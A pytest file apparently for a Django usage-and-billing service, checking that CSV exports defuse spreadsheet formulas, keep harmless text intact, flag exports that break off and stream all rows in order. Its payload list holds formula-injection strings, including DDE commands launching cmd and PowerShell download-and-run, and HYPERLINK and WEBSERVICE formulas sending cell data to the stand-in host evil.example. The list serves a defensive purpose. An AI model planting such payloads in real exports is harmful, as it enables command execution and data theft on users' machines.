"""Exports that a spreadsheet opens: no cell runs, none is lost, and every row is there."""

import csv
import importlib
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.db import OperationalError

from core import ids
from core.lists import BROKEN_OFF, cell
from tests.books import Books
from tests.journeys import neighbours
from tests.journeys.neighbours import House
from tests.proofs import proves

# What spreadsheets run, from public collections of such payloads, and every way to hide the first character.
PAYLOADS = [
    "=1+1", "=1+1;", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A2)', "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=rundll32|'URL.dll,OpenURL x'!A",
    '=IMAGE("http://evil.example/x.png")', "=-1", "=+1", "--1", "+-1", "++1", "-@SUM(1)", "=", "+", "-", "@",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @SUM(1)", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
    "\x0b=1+1", "\x0c=1+1", "\x1f=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", '"=1+1"', "'=1+1",
    "x;=1+1", "x\t=1+1", "x\r=1+1", "x\n=1+1", "x\r\n=1+1", 'x";"=1+1', "x; =1+1", "x;\t@SUM(1)", '";=1+1;"',
    "−1+1", "%0A=1+1", "-1e1000+1", "-1,000", "+49 30 123", "-", "1e5-cmd",
]  # fmt: skip
HARMLESS = ["alice", "a=b", "1-2", "x@y.example", "a;b", "ünï", "", "-1", "-0.5", "12", "0", "a, b", 'say "hi"', "a\\b"]
# What a spreadsheet takes for the start of something to run, once what it trims is gone.
LIVE = tuple("=+-@＝＋－＠\t\r\n")
TRIMMED = " \u00a0\u3000\ufeff\u200b\x0b\x0c\x1f"


def live(text: str) -> bool:
    """Whether a spreadsheet would run a cell; a plain number is none."""
    try:
        float(text)
    except ValueError:
        return text.startswith(LIVE) or text.strip(TRIMMED).startswith(LIVE)
    return False


def cells(text: str) -> Iterator[str]:
    """Every cell that a spreadsheet might see: separated by comma, or by what its country uses instead."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row


def export(house: House, path: str) -> str:
    """All of a list as CSV."""
    answer = house.callers["owner"].get(path, accept="text/csv")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    found: str = answer.getvalue().decode()
    return found


@proves("A12", guard="formulas_are_defused")
def test_no_payload_stays_live_in_an_export(books: Books) -> None:
    house = neighbours.house("acme-labs")
    events = [
        neighbours.event(
            f"=payload-{place}", end_user=payload, request_id=payload, metadata={"a": payload},
            finish_reason=payload, endpoint=payload, service_tier="default", channel=payload,
        )
        for place, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    answer = house.gateway.post(neighbours.EVENTS, events)
    assert answer.json()["created"] == len(PAYLOADS), answer.content
    for payload in PAYLOADS:
        neighbours.give(house.organization, "0.01", reason=payload)
    usage, statement = export(house, "/v1/usage"), export(house, "/v1/wallet/transactions")
    for text in (usage, statement):
        assert [found for found in cells(text) if live(found)] == []
    rows = list(csv.DictReader(io.StringIO(usage, newline="")))
    # Nothing is lost on the way: what was written is there, with a sign before what would run.
    for column in ("end_user", "request_id"):
        assert {row[column].replace("'", "") for row in rows} >= {each.replace("'", "") for each in PAYLOADS}


def test_what_is_harmless_is_exported_as_it_is(books: Books) -> None:
    house = neighbours.house("acme-labs")
    events = [neighbours.event(f"harmless-{place}", end_user=text) for place, text in enumerate(HARMLESS)]
    assert house.gateway.post(neighbours.EVENTS, events).json()["created"] == len(HARMLESS)
    rows = csv.DictReader(io.StringIO(export(house, "/v1/usage"), newline=""))
    assert {row["end_user"] for row in rows} >= set(HARMLESS)


@pytest.mark.parametrize("text", [*HARMLESS, None, 5, -5])
def test_a_harmless_cell_is_left_alone(text: Any) -> None:
    assert cell(text) == ("" if text is None else str(text))


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_cell_that_would_run_is_defused_by_a_sign_and_nothing_else(text: str) -> None:
    assert cell(text).replace("'", "") == text.replace("'", "")
    assert not [found for found in cells(cell(text)) if live(found)]


@pytest.mark.parametrize(
    ("path", "module"), [("/v1/usage", "metering.usage_pages"), ("/v1/wallet/transactions", "billing.statement")]
)
def test_an_export_that_breaks_off_says_so_in_its_last_line(
    books: Books, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, path: str, module: str
) -> None:
    house = neighbours.house("acme-labs")
    whole = list(csv.reader(io.StringIO(export(house, path))))
    original: Any = importlib.import_module(module).page
    pages: Iterator[Any] = iter([lambda *args, **options: original(*args, **{**options, "limit": 3})])

    def failing(*args: Any, **options: Any) -> Any:
        for page in pages:
            return page(*args, **options)
        raise OperationalError("SELECT the connection is gone")

    monkeypatch.setattr(f"{module}.page", failing)
    rows = list(csv.reader(io.StringIO(export(house, path))))
    assert rows == [*whole[:4], [BROKEN_OFF]]
    assert "an export broke off" in caplog.text


def test_an_export_of_several_chunks_has_every_row_once_and_in_order(books: Books) -> None:
    house = neighbours.house("acme-labs")
    for batch in range(3):
        events = [neighbours.event(f"many-{batch}-{number}") for number in range(900)]
        assert house.gateway.post(neighbours.EVENTS, events).json()["created"] == 900
    answer = house.callers["owner"].get("/v1/usage", accept="text/csv")
    assert answer.streaming
    chunks = [chunk.decode() for chunk in answer.streaming_content]
    assert len(chunks) > 3
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert [row["id"] for row in rows] == [ids.show("usage", each.pk) for each in reversed(house.records)]
    assert len(rows) == 2706
    page = house.callers["owner"].get("/v1/usage", accept="text/csv", limit="100", after=rows[10]["id"])
    assert [row["id"] for row in csv.DictReader(io.StringIO(page.getvalue().decode()))] == [
        row["id"] for row in rows[11:111]
    ]
